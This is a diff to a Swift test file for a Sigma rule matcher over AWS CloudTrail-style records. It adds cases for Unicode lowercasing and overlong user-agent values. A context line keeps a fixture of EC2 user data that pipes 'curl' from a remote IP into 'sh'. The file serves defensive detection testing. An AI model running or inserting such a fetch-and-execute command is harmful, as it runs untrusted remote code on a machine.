@@ -47,6 +47,9 @@ private let userData = Data("#!/bin/bash\ncurl -s http://203.0.113.7/x | sh\n".u
 private let policy =
     #"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"*"}]}"#
 
+/// A user agent longer than the 256 bytes an index lowercases in place (some SDKs append long feature lists).
+private let longAgent = "AWS-SDK-Java/2.25.0 " + (0..<40).map { "Feature-\($0)/SDK" }.joined(separator: " ")
+
 /// Every modifier and condition form, each with a record that matches and one that does not. The default record is
 /// an IAM user (alice, AKIA key) calling s3 ListBuckets with aws-cli from 203.0.113.10 on macOS.
 let sigmaCases: [SigmaCase] = [
@@ -59,6 +62,17 @@ let sigmaCases: [SigmaCase] = [
     .match(
         "Kelvin sign lowercases to k", "    sel:\n        userIdentity.userName: 'kate'\n    condition: sel",
         [("userIdentity.userName", "\u{212A}ate")]),
+    .match(
+        "indexed value whose lowercase is a byte shorter (Ɥ is three bytes, ɥ two)",
+        "    sel:\n        userAgent: 'ɥx-tool'\n    condition: sel", [("userAgent", "Ɥx-tool")]),
+    .match(
+        "indexed value longer than the lookup buffer, any case",
+        "    sel:\n        userAgent: '\(longAgent.lowercased())'\n    condition: sel",
+        [("userAgent", .string(longAgent))]),
+    .miss(
+        "indexed long value, another long value",
+        "    sel:\n        userAgent: '\(longAgent.lowercased())'\n    condition: sel",
+        [("userAgent", .string(longAgent.replacingOccurrences(of: "SDK", with: "SDX")))]),
     .match(
         "gated rule on every record, non-ASCII field",
         "    sel:\n        userAgent|contains: 'kit'\n    condition: sel",
